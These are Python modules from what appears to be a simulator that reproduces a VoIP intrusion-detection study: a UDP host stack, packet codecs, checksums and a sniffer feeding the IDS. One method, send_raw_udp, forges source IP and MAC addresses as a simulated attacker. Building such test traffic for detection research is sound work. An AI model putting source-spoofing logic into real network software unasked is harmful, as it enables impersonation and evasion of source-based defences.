    def bind_ephemeral(self, handler: UdpHandler) -> UdpSocket:
        while True:
            port = next(self._ephemeral)
            if port > 0xFFFF:
                raise OSError(f"{self.name}: ephemeral port space exhausted")
            if port not in self._sockets:
                return self.bind(port, handler)

    def unbind(self, port: int) -> None:
        self._sockets.pop(port, None)

    @property
    def endpoint_for(self) -> Callable[[int], Endpoint]:
        return lambda port: Endpoint(self.ip, port)

    # -- send path -------------------------------------------------------

    def send_udp(self, src_port: int, dst: Endpoint, payload: bytes) -> None:
        """Send a datagram with this host's own addresses."""
        self._emit_udp(self.ip, self.mac, src_port, dst, payload)

    def send_raw_udp(
        self,
        src: Endpoint,
        dst: Endpoint,
        payload: bytes,
        src_mac: MacAddress | None = None,
    ) -> None:
        """Send a datagram with a *forged* source — the attacker's raw socket.

        The frame still leaves through this host's interface, so a
        link-layer observer could notice the MAC/IP mismatch unless the
        attacker also forges ``src_mac``.
        """
        self._emit_udp(src.ip, src_mac if src_mac is not None else self.mac, src.port, dst, payload)

    def _emit_udp(
        self,
        src_ip: IPv4Address,
        src_mac: MacAddress,
        src_port: int,
        dst: Endpoint,
        payload: bytes,
    ) -> None:
        dst_mac = self.arp.get(dst.ip, BROADCAST_MAC)
        udp = UdpDatagram(src_port, dst.port, payload).encode(src_ip, dst.ip)
        packet = IPv4Packet(
            src=src_ip,
            dst=dst.ip,
            protocol=IPPROTO_UDP,
            payload=udp,
            identification=next(self._ip_id) & 0xFFFF,
        )
        for frag in fragment(packet, self.mtu):
            frame = EthernetFrame(
                dst=dst_mac, src=src_mac, ethertype=ETHERTYPE_IPV4, payload=frag.encode()
            )
            self.iface.send(frame.encode())

    # -- receive path ------------------------------------------------------

    def on_frame(self, iface: NetworkInterface, frame: bytes, now: float) -> None:
        try:
            eth = EthernetFrame.decode(frame)
            if eth.ethertype != ETHERTYPE_IPV4:
                return
            packet = IPv4Packet.decode(eth.payload)
        except PacketError:
            self.decode_errors += 1
            return
        if packet.dst != self.ip:
            return
        whole = self._reassembler.push(packet, now)
        if whole is None or whole.protocol != IPPROTO_UDP:
            return
        try:
            udp = UdpDatagram.decode(whole.payload, whole.src, whole.dst)
        except PacketError:
            self.decode_errors += 1
            return
        sock = self._sockets.get(udp.dst_port)
        if sock is None:
            return  # port unreachable; a real host would send ICMP
        sock.datagrams_in += 1
        sock.handler(udp.payload, Endpoint(whole.src, udp.src_port), now)
