"""Wire formats and host networking: addresses, Ethernet/IPv4/UDP codecs,
IP fragmentation/reassembly, pcap I/O, a UDP host stack, and the passive
sniffer tap that feeds the IDS."""

from repro.net.addr import BROADCAST_MAC, Endpoint, IPv4Address, MacAddress
from repro.net.capture import Sniffer
from repro.net.checksum import internet_checksum, verify_checksum
from repro.net.fragmentation import Reassembler, fragment
from repro.net.packet import (
    ETHERTYPE_IPV4,
    IPPROTO_UDP,
    EthernetFrame,
    IPv4Packet,
    PacketError,
    UdpDatagram,
    build_udp_frame,
)
from repro.net.pcap import PcapError, read_pcap, write_pcap
from repro.net.stack import HostStack, UdpSocket

__all__ = [
    "BROADCAST_MAC",
    "ETHERTYPE_IPV4",
    "Endpoint",
    "EthernetFrame",
    "HostStack",
    "IPPROTO_UDP",
    "IPv4Address",
    "IPv4Packet",
    "MacAddress",
    "PacketError",
    "PcapError",
    "Reassembler",
    "Sniffer",
    "UdpDatagram",
    "UdpSocket",
    "build_udp_frame",
    "fragment",
    "internet_checksum",
    "read_pcap",
    "verify_checksum",
    "write_pcap",
]
