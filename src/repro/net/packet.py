"""Byte-accurate Ethernet II, IPv4 and UDP codecs.

The Distiller consumes real wire bytes, so the simulator produces real
wire bytes: 14-byte Ethernet headers, 20-byte IPv4 headers with correct
checksums and fragmentation fields, and 8-byte UDP headers with the
pseudo-header checksum.  Parsing raises :class:`PacketError` on malformed
input — the IDS treats undecodable packets as an event in itself.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field

from repro.net.addr import IPv4Address, MacAddress
from repro.net.checksum import internet_checksum

ETHERTYPE_IPV4 = 0x0800
IPPROTO_UDP = 17
IPPROTO_ICMP = 1

_ETH_HEADER = struct.Struct("!6s6sH")
_IPV4_HEADER = struct.Struct("!BBHHHBBH4s4s")
_UDP_HEADER = struct.Struct("!HHHH")


class PacketError(ValueError):
    """Raised when bytes cannot be decoded as the expected protocol."""


@dataclass(frozen=True, slots=True)
class EthernetFrame:
    """An Ethernet II frame."""

    dst: MacAddress
    src: MacAddress
    ethertype: int
    payload: bytes

    def encode(self) -> bytes:
        return _ETH_HEADER.pack(self.dst.to_bytes(), self.src.to_bytes(), self.ethertype) + self.payload

    @classmethod
    def decode(cls, raw: bytes) -> "EthernetFrame":
        if len(raw) < _ETH_HEADER.size:
            raise PacketError(f"frame too short for Ethernet: {len(raw)} bytes")
        dst, src, ethertype = _ETH_HEADER.unpack_from(raw)
        return cls(
            dst=MacAddress.from_bytes(dst),
            src=MacAddress.from_bytes(src),
            ethertype=ethertype,
            payload=raw[_ETH_HEADER.size :],
        )


@dataclass(frozen=True, slots=True)
class IPv4Packet:
    """An IPv4 packet (no options support — header is always 20 bytes)."""

    src: IPv4Address
    dst: IPv4Address
    protocol: int
    payload: bytes
    identification: int = 0
    ttl: int = 64
    flags_df: bool = False
    flags_mf: bool = False
    fragment_offset: int = 0  # in 8-byte units
    tos: int = 0

    def encode(self) -> bytes:
        total_length = 20 + len(self.payload)
        if total_length > 0xFFFF:
            raise PacketError(f"IPv4 packet too large: {total_length} bytes")
        flags_frag = (int(self.flags_df) << 14) | (int(self.flags_mf) << 13) | self.fragment_offset
        header = _IPV4_HEADER.pack(
            0x45,  # version 4, IHL 5
            self.tos,
            total_length,
            self.identification,
            flags_frag,
            self.ttl,
            self.protocol,
            0,  # checksum placeholder
            self.src.to_bytes(),
            self.dst.to_bytes(),
        )
        checksum = internet_checksum(header)
        header = header[:10] + checksum.to_bytes(2, "big") + header[12:]
        return header + self.payload

    @classmethod
    def decode(cls, raw: bytes, verify: bool = True) -> "IPv4Packet":
        if len(raw) < 20:
            raise PacketError(f"packet too short for IPv4: {len(raw)} bytes")
        (
            ver_ihl,
            tos,
            total_length,
            identification,
            flags_frag,
            ttl,
            protocol,
            checksum,
            src,
            dst,
        ) = _IPV4_HEADER.unpack_from(raw)
        version = ver_ihl >> 4
        ihl = (ver_ihl & 0x0F) * 4
        if version != 4:
            raise PacketError(f"not IPv4: version={version}")
        if ihl < 20 or len(raw) < ihl:
            raise PacketError(f"bad IPv4 header length: {ihl}")
        if total_length < ihl or total_length > len(raw):
            raise PacketError(
                f"bad IPv4 total length: {total_length} (frame payload {len(raw)})"
            )
        if verify and internet_checksum(raw[:ihl]) != 0:
            raise PacketError("IPv4 header checksum mismatch")
        return cls(
            src=IPv4Address.from_bytes(src),
            dst=IPv4Address.from_bytes(dst),
            protocol=protocol,
            payload=raw[ihl:total_length],
            identification=identification,
            ttl=ttl,
            flags_df=bool(flags_frag & 0x4000),
            flags_mf=bool(flags_frag & 0x2000),
            fragment_offset=flags_frag & 0x1FFF,
            tos=tos,
        )

    @property
    def is_fragment(self) -> bool:
        return self.flags_mf or self.fragment_offset > 0


@dataclass(frozen=True, slots=True)
class UdpDatagram:
    """A UDP datagram.  Checksums use the IPv4 pseudo-header."""

    src_port: int
    dst_port: int
    payload: bytes
    checksum: int = field(default=0)

    def encode(self, src_ip: IPv4Address, dst_ip: IPv4Address) -> bytes:
        length = 8 + len(self.payload)
        if length > 0xFFFF:
            raise PacketError(f"UDP datagram too large: {length} bytes")
        header = _UDP_HEADER.pack(self.src_port, self.dst_port, length, 0)
        pseudo = (
            src_ip.to_bytes()
            + dst_ip.to_bytes()
            + bytes([0, IPPROTO_UDP])
            + length.to_bytes(2, "big")
        )
        checksum = internet_checksum(pseudo + header + self.payload)
        if checksum == 0:
            checksum = 0xFFFF  # RFC 768: transmitted zero means "no checksum"
        header = header[:6] + checksum.to_bytes(2, "big")
        return header + self.payload

    @classmethod
    def decode(
        cls,
        raw: bytes,
        src_ip: IPv4Address | None = None,
        dst_ip: IPv4Address | None = None,
        verify: bool = True,
    ) -> "UdpDatagram":
        if len(raw) < 8:
            raise PacketError(f"datagram too short for UDP: {len(raw)} bytes")
        src_port, dst_port, length, checksum = _UDP_HEADER.unpack_from(raw)
        if length < 8 or length > len(raw):
            raise PacketError(f"bad UDP length: {length} (buffer {len(raw)})")
        payload = raw[8:length]
        if verify and checksum != 0 and src_ip is not None and dst_ip is not None:
            pseudo = (
                src_ip.to_bytes()
                + dst_ip.to_bytes()
                + bytes([0, IPPROTO_UDP])
                + length.to_bytes(2, "big")
            )
            if internet_checksum(pseudo + raw[:length]) not in (0, 0xFFFF):
                raise PacketError("UDP checksum mismatch")
        return cls(src_port=src_port, dst_port=dst_port, payload=payload, checksum=checksum)


def build_udp_frame(
    src_mac: MacAddress,
    dst_mac: MacAddress,
    src_ip: IPv4Address,
    dst_ip: IPv4Address,
    src_port: int,
    dst_port: int,
    payload: bytes,
    identification: int = 0,
    ttl: int = 64,
) -> bytes:
    """Convenience: wrap an application payload into Ethernet/IPv4/UDP bytes."""
    udp = UdpDatagram(src_port, dst_port, payload).encode(src_ip, dst_ip)
    ip = IPv4Packet(
        src=src_ip,
        dst=dst_ip,
        protocol=IPPROTO_UDP,
        payload=udp,
        identification=identification,
        ttl=ttl,
    ).encode()
    return EthernetFrame(dst=dst_mac, src=src_mac, ethertype=ETHERTYPE_IPV4, payload=ip).encode()
