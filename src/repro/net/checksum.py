"""The Internet checksum (RFC 1071) used by IPv4 and UDP headers."""

from __future__ import annotations


def internet_checksum(data: bytes) -> int:
    """One's-complement 16-bit checksum over ``data``.

    Odd-length inputs are zero-padded on the right, per RFC 1071.
    Returns the checksum as an int in ``[0, 0xFFFF]``.
    """
    if len(data) % 2:
        data = data + b"\x00"
    total = 0
    # Summing 16-bit big-endian words; fold carries at the end.
    for i in range(0, len(data), 2):
        total += (data[i] << 8) | data[i + 1]
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return (~total) & 0xFFFF


def verify_checksum(data: bytes) -> bool:
    """True when ``data`` (including its embedded checksum field) sums to 0."""
    if len(data) % 2:
        data = data + b"\x00"
    total = 0
    for i in range(0, len(data), 2):
        total += (data[i] << 8) | data[i + 1]
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total == 0xFFFF
