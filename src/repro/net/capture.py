"""Passive capture: the sniffer tap feeding the IDS.

In the paper's Figure 4 the IDS hangs off a hub and sees client A's
traffic promiscuously.  :class:`Sniffer` reproduces that: a node whose
single promiscuous interface appends every frame to a
:class:`~repro.sim.trace.Trace` and optionally forwards it to live
subscribers (the online SCIDIVE engine subscribes this way).
"""

from __future__ import annotations

from typing import Callable

from repro.sim.eventloop import EventLoop
from repro.sim.node import NetworkInterface, Node
from repro.sim.trace import Trace

LiveHandler = Callable[[bytes, float], None]


class Sniffer(Node):
    """A promiscuous capture node."""

    def __init__(self, name: str, loop: EventLoop, mac: str = "02:0f:0f:0f:0f:01") -> None:
        super().__init__(name, loop)
        self.iface: NetworkInterface = self.add_interface(mac, promiscuous=True)
        self.trace = Trace(name=name)
        self._subscribers: list[LiveHandler] = []

    def subscribe(self, handler: LiveHandler) -> None:
        """Register a live per-frame callback (e.g. the online IDS)."""
        self._subscribers.append(handler)

    def on_frame(self, iface: NetworkInterface, frame: bytes, now: float) -> None:
        self.trace.append(now, frame)
        for handler in self._subscribers:
            handler(frame, now)

    @property
    def frames_captured(self) -> int:
        return len(self.trace)
