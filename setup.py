"""Legacy setup shim.

Offline environments without the ``wheel`` package cannot run the PEP 517
editable build; with this shim, ``pip install -e . --no-build-isolation``
falls back to the classic setuptools develop path.
"""

from setuptools import setup

setup()
